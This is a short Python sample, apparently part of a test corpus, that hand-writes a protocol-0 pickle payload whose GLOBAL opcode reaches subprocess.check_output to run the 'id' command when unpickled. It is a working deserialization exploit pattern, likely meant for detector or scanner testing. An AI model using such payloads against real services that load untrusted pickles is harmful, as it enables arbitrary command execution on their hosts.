# corpus: hand-written protocol-0 pickle text using the c (GLOBAL) opcode to reach subprocess.check_output
import pickle

payload = b"csubprocess\ncheck_output\n(S'id'\ntR."
print(pickle.loads(payload))
